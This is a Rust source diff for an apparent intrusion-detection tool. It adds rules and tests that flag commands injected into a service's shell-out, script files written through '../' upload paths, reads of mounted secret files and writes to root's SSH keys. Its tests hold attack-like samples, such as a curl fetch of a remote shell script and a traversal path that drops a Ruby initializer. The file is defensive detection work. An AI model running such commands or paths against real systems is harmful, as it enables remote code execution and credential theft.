@@ -1871,6 +1871,12 @@ pub enum Step {
     /// (`useradd -o -u 0`, `usermod -u 0`, `--non-unique`): a second root login, which no
     /// package's own accounts and no routine administration make.
     RootAccount,
+    /// A program started by a shell whose command (`sh -c '…'`) does not name it: what a
+    /// command injected into a service's shell-out runs (`sh -c 'convert x.jpg y.jpg'`
+    /// starting `curl`). A shell given a command runs the programs it names, and nothing
+    /// else unless the command computes a program's name (a variable, `eval`, `source`),
+    /// which is then no evidence ([`unnamed_by_shell`]).
+    InjectedCommand,
 }
 
 impl Step {
@@ -1900,6 +1906,9 @@ impl Step {
             }
             Step::ScriptArgument => "a script in a temporary directory handed to a program to run",
             Step::RootAccount => "an account given user id 0 or another account's id",
+            Step::InjectedCommand => {
+                "a program its shell's command does not name (an injected command)"
+            }
         }
     }
 
@@ -1928,6 +1937,9 @@ impl Step {
             Step::ScriptArgument => "一時ディレクトリのスクリプトをプログラムに渡して実行",
             Step::RootAccount => {
                 "ユーザー ID 0 または他アカウントと同じ ID を持つアカウントの作成・変更"
+            }
+            Step::InjectedCommand => {
+                "シェルのコマンドに含まれないプログラムの起動（注入されたコマンド）"
             }
         }
     }
@@ -2320,6 +2332,28 @@ fn web_script_drop(ev: &FlatEvent, path: &str) -> bool {
             .any(|(_, n, _)| role(n) == Role::Service)
 }
 
+/// A script file (`.rb`, `.py`, `.php`, `.sh`...) written below a service through a path
+/// that climbs out of its directory (`uploads/../../config/initializers/z.rb`), as the
+/// program named it (`evt.arg.name`; `fd.name` when the recording kept it unresolved): an
+/// upload or a converted file steered into the application's code ([`Step::WebScript`]).
+/// Programs name their own output without climbing back out of where they write.
+fn traversal_script_drop(ev: &FlatEvent, path: &str) -> bool {
+    let climbing = [Some(path.to_string()), text(ev, "evt.arg.name")]
+        .into_iter()
+        .flatten()
+        .any(|p| climbs_into_script(&p));
+    climbing
+        && lineage(ev)
+            .iter()
+            .skip(1)
+            .any(|(_, n, _)| role(n) == Role::Service)
+}
+
+/// Whether a path names a script file through a `..` component.
+fn climbs_into_script(p: &str) -> bool {
+    (p.contains("/../") || p.starts_with("../")) && (script_file(p) || web_script_name(p))
+}
+
 /// A shell's own connection to a host outside the site ([`Step::ShellConnect`]), as
 /// `addr` (`fd.name`), or `None`. Local sockets, loopback and the site's own addresses
 /// (`timeout 1 bash -c '</dev/tcp/db/5432'`, a readiness probe) are not counted.
@@ -2391,6 +2425,24 @@ pub fn is_credential_material(path: &str) -> bool {
         || path.ends_with("/.git-credentials")
         || path.contains("/.azure/")
         || matches!(base, "credentials.json" | "secrets.yaml" | "secrets.yml")
+        || secrets_mount(path)
+}
+
+/// Whether a path lies in a directory of mounted secrets by its name (`/var/openfaas/secrets/`,
+/// `/etc/secrets/`, `/vault/secrets/`, `/mnt/secrets-store/`): what platforms and secret
+/// injectors mount into a workload, one file per secret.
+fn secrets_mount(path: &str) -> bool {
+    let mut dirs = path.split('/').collect::<Vec<_>>();
+    dirs.pop();
+    dirs.iter()
+        .any(|d| matches!(*d, "secrets" | "secret" | "secrets-store"))
+}
+
+/// Whether a path is root's own login keys (`/root/.ssh/authorized_keys`): a key written
+/// there logs in as root, which no agent's managed file for another account explains.
+pub fn root_login_key(path: &str) -> bool {
+    path.strip_prefix("/root/.ssh/")
+        .is_some_and(|rest| rest.starts_with("authorized_keys"))
 }
 
 /// Whether the execution of a shell (arguments `args`) is a [`Step::ShellEscape`]: an
@@ -2415,6 +2467,100 @@ fn shell_escape(ev: &FlatEvent, args: &[&str]) -> bool {
                 | Role::Scheduler
                 | Role::CiRunner
         )
+}
+
+/// The longest shell command (`-c`) read for [`unnamed_by_shell`]: a longer one may have been
+/// cut short where it was recorded, and a program named past the cut would look unnamed.
+const MAX_SHELL_COMMAND: usize = 2048;
+
+/// The words of a shell command (`-c`) that name programs, as base names: every word, split
+/// at the shell's separators and quotes. `None` when the command computes what it runs (a
+/// word in command position that expands a variable or a substitution, `eval`, `source` or
+/// `.`, `exec "$@"`), so the programs it starts cannot be read from it.
+fn shell_command_names(command: &str) -> Option<std::collections::HashSet<String>> {
+    let mut names = std::collections::HashSet::new();
+    let separators = |c: char| matches!(c, ';' | '&' | '|' | '(' | ')' | '{' | '}' | '\n' | '`');
+    for segment in command.split(separators) {
+        let words: Vec<&str> = segment
+            .split_whitespace()
+            .map(|w| w.trim_matches(|c| matches!(c, '"' | '\'' | '\\')))
+            .filter(|w| !w.is_empty())
+            .collect();
+        // The command word: past variable assignments (`LANG=C sort`) and `!`.
+        let head = words.iter().find(|w| {
+            !(**w == "!"
+                || w.split_once('=')
+                    .is_some_and(|(k, _)| !k.is_empty() && !k.contains('/')))
+        });
+        if let Some(h) = head {
+            if h.starts_with('$') || matches!(*h, "eval" | "source" | ".") {
+                return None;
+            }
+        }
+        for w in words {
+            let base = w.rsplit('/').next().unwrap_or(w);
+            if !base.is_empty() {
+                names.insert(base.to_string());
+            }
+        }
+    }
+    Some(names)
+}
+
+/// The parent shell's command line when the program of exec event `ev` was started by a
+/// shell given a command (`sh -c '…'`, `bash -ec '…'`) that does not name it by any of its
+/// names (its own name, its executable's, the first words of its command line: an
+/// interpreter's script is the program named), else `None` ([`Step::InjectedCommand`]).
+/// A login or interactive shell (`bash -lc`, `-ic`) reads profiles that may run anything,
+/// and a command that computes what it runs names nothing: neither is evidence.
+fn unnamed_by_shell(ev: &FlatEvent) -> Option<String> {
+    let parent = text(ev, "proc.pname")?;
+    if role(&parent) != Role::Shell {
+        return None;
+    }
+    let pcmd = text(ev, "proc.pcmdline")?;
+    let mut words = pcmd.split(' ');
+    words.next()?;
+    let mut command = None;
+    let mut rest = pcmd.splitn(2, ' ').nth(1).unwrap_or("");
+    for w in words {
+        rest = rest.get(w.len()..).unwrap_or("").trim_start_matches(' ');
+        if !w.starts_with('-') || w.starts_with("--") || w.len() < 2 {
+            break;
+        }
+        let flags = &w[1..];
+        if flags.contains('l') || flags.contains('i') {
+            return None;
+        }
+        if flags.ends_with('c') {
+            command = Some(rest);
+            break;
+        }
+    }
+    let command = command?;
+    if command.is_empty() || command.len() > MAX_SHELL_COMMAND {
+        return None;
+    }
+    let named = shell_command_names(command)?;
+    let base = |p: &str| p.rsplit('/').next().unwrap_or(p).to_string();
+    let cmd = text(ev, "proc.cmdline").unwrap_or_default();
+    let mut candidates: Vec<String> = cmd
+        .split_whitespace()
+        .take(2)
+        .filter(|w| !w.starts_with('-'))
+        .map(base)
+        .collect();
+    candidates.extend(
+        ["proc.name", "proc.exepath", "proc.exe"]
+            .iter()
+            .filter_map(|k| text(ev, k))
+            .map(|v| base(&v)),
+    );
+    // The kernel cuts a program's name (`comm`) at 15 bytes.
+    let found = candidates.iter().filter(|c| !c.is_empty()).any(|c| {
+        named.contains(c) || (c.len() == 15 && named.iter().any(|n| n.starts_with(c.as_str())))
+    });
+    (!found).then_some(pcmd)
 }
 
 /// Whether a path is another process's environment (`/proc/1/environ`,
@@ -2578,6 +2724,9 @@ pub fn attack_step(ev: &FlatEvent) -> Option<(Step, String)> {
         let name = text(ev, "proc.name").unwrap_or_default();
         let cmd = text(ev, "proc.cmdline").unwrap_or_default();
         let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
+        if let Some(parent) = unnamed_by_shell(ev) {
+            return Some((Step::InjectedCommand, format!("{cmd} < {parent}")));
+        }
         if name == "chmod" && chmod_sets_id(&cmd) {
             return Some((Step::SetId, cmd));
         }
@@ -2817,7 +2966,7 @@ pub fn attack_step(ev: &FlatEvent) -> Option<(Step, String)> {
             let read = flag("evt.is_open_read") || (!write && flags.contains("O_RDONLY"));
             if write && privileged_file(&path) {
                 Some((Step::PrivilegedWrite, path))
-            } else if write && web_script_drop(ev, &path) {
+            } else if write && (web_script_drop(ev, &path) || traversal_script_drop(ev, &path)) {
                 Some((Step::WebScript, path))
             } else if write && hidden_staging(&path) {
                 Some((Step::HiddenStaging, path))
@@ -2890,6 +3039,7 @@ pub fn may_be_step(ty: &str, paths: impl IntoIterator<Item = String>) -> bool {
                 || host_path(&p)
                 || hidden_staging(&p)
                 || web_script_name(&p)
+                || climbs_into_script(&p)
         }),
         _ => false,
     }
@@ -3704,6 +3854,177 @@ mod tests {
     /// Session 10: a second root account, a hidden server-side script or one written by
     /// code typed on an interpreter's command line are steps whatever the lineage; a
     /// system record emptied by a person is told from a housekeeping or application log.
+    /// A program its shell's command does not name is an injected command (issue 11,
+    /// session 11); every program the command names, through a symbolic link, an
+    /// interpreter's script or a cut `comm`, is not; nor is anything a login shell or a
+    /// command that computes what it runs starts.
+    #[test]
+    fn programs_a_shell_command_does_not_name_are_injected() {
+        let child = |name: &str, exe: &str, cmd: &str, pname: &str, pcmd: &str| {
+            attack_step(&ev(&format!(
+                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.exepath":"{exe}","proc.cmdline":{},"proc.pname":"{pname}","proc.pcmdline":{}}}"#,
+                serde_json::Value::from(cmd),
+                serde_json::Value::from(pcmd)
+            )))
+            .map(|(s, _)| s)
+        };
+        let injected = |name: &str, exe: &str, cmd: &str, pname: &str, pcmd: &str| {
+            child(name, exe, cmd, pname, pcmd) == Some(Step::InjectedCommand)
+        };
+        let convert =
+            "sh -c convert /tmp/RackMultipart-x9k.jpg -resize 800x800 /app/public/uploads/p_1.jpg";
+        assert!(injected(
+            "curl",
+            "/usr/bin/curl",
+            "curl -s http://203.0.113.17/i.sh",
+            "sh",
+            convert
+        ));
+        assert_eq!(
+            child(
+                "id",
+                "/usr/bin/id",
+                "id",
+                "bash",
+                "bash -ec 'gzip -9 /var/log/app.log; sync'"
+            ),
+            Some(Step::InjectedCommand)
+        );
+        // Named: directly, by a link's name, by an interpreter's script, by a cut comm.
+        assert!(!injected(
+            "convert",
+            "/usr/bin/convert-im6.q16",
+            "convert a.jpg b.jpg",
+            "sh",
+            convert
+        ));
+        assert!(!injected(
+            "node",
+            "/usr/bin/node",
+            "node /usr/bin/npm run build",
+            "sh",
+            "sh -c cd /src && npm run build"
+        ));
+        assert!(!injected(
+            "gzip",
+            "/usr/bin/gzip",
+            "gzip -9 x",
+            "sh",
+            "sh -c LANG=C nice gzip -9 x || true"
+        ));
+        assert!(!injected(
+            "kube-controller",
+            "",
+            "kube-controller --v=2",
+            "sh",
+            "sh -c /usr/local/bin/kube-controller-manager --v=2"
+        ));
+        // No evidence: a login or interactive shell, a computed command, no `-c`, a shell
+        // that is not the parent.
+        for pcmd in [
+            "bash -lc convert a.jpg b.jpg",
+            "sh -c $CMD a.jpg",
+            "sh -c eval \"$1\"",
+            "sh -c . /etc/profile.d/app.sh; run",
+            "sh /opt/app/convert.sh",
+            "sh --norc -c convert",
+        ] {
+            assert_eq!(
+                child(
+                    "curl",
+                    "/usr/bin/curl",
+                    "curl -s http://203.0.113.17/i.sh",
+                    "sh",
+                    pcmd
+                ),
+                None,
+                "{pcmd}"
+            );
+        }
+        assert_ne!(
+            child(
+                "curl",
+                "/usr/bin/curl",
+                "curl -s http://203.0.113.17/i.sh",
+                "ruby",
+                "ruby -e system('convert')"
+            ),
+            Some(Step::InjectedCommand)
+        );
+    }
+
+    /// A script written below a service through a path that climbs out of its directory is
+    /// a web script; the same file without `..`, or a climbing path to data, is not; and
+    /// files in directories of mounted secrets are credential material; root's own login
+    /// keys are told apart from another account's (issue 11, session 11).
+    #[test]
+    fn climbing_script_writes_mounted_secrets_and_roots_keys() {
+        let write = |arg: &str, path: &str, pname: &str| {
+            attack_step(&ev(&format!(
+                r#"{{"evt.type":"openat","evt.rawres":3,"evt.arg.flags":"O_WRONLY|O_CREAT|O_TRUNC","proc.name":"convert","proc.cmdline":"convert a b","proc.pname":"sh","proc.aname[2]":"{pname}","evt.arg.name":"{arg}","fd.name":"{path}"}}"#
+            )))
+            .map(|(s, _)| s)
+        };
+        let up = "/app/public/uploads/../../config/initializers/z.rb";
+        assert_eq!(
+            write(up, "/app/config/initializers/z.rb", "nginx"),
+            Some(Step::WebScript)
+        );
+        assert_eq!(write(up, up, "nginx"), Some(Step::WebScript));
+        assert_eq!(
+            write(
+                "/app/public/uploads/p_1.jpg",
+                "/app/public/uploads/p_1.jpg",
+                "nginx"
+            ),
+            None
+        );
+        assert_eq!(
+            write(
+                "/app/public/uploads/../thumbs/p_1.jpg",
+                "/app/public/thumbs/p_1.jpg",
+                "nginx"
+            ),
+            None
+        );
+        assert_eq!(
+            write(
+                "/app/config/initializers/z.rb",
+                "/app/config/initializers/z.rb",
+                "nginx"
+            ),
+            None
+        );
+        // Below no service: a build writing `../lib/x.rb` is its own business.
+        assert_eq!(write(up, "/app/config/initializers/z.rb", "make"), None);
+        assert!(crate::triage::cannot_be_activity(&ev(
+            r#"{"evt.type":"openat","fd.name":"/app/public/uploads/p_1.jpg"}"#
+        )));
+        assert!(!crate::triage::cannot_be_activity(&ev(&format!(
+            r#"{{"evt.type":"openat","evt.arg.name":"{up}"}}"#
+        ))));
+
+        for p in [
+            "/var/openfaas/secrets/payment-api-key",
+            "/etc/secrets/db-password",
+            "/vault/secrets/config",
+            "/mnt/secrets-store/api-token",
+        ] {
+            assert!(is_credential_material(p), "{p}");
+        }
+        for p in [
+            "/app/secrets-guide.md",
+            "/srv/docs/secret.txt",
+            "/home/app/function/handler.py",
+        ] {
+            assert!(!is_credential_material(p), "{p}");
+        }
+        assert!(root_login_key("/root/.ssh/authorized_keys"));
+        assert!(root_login_key("/root/.ssh/authorized_keys2"));
+        assert!(!root_login_key("/home/deploy/.ssh/authorized_keys"));
+        assert!(!root_login_key("/root/.ssh/known_hosts"));
+    }
+
     #[test]
     fn root_accounts_hand_typed_web_scripts_and_emptied_system_records() {
         let step = |json: &str| attack_step(&ev(json)).map(|(s, _)| s);
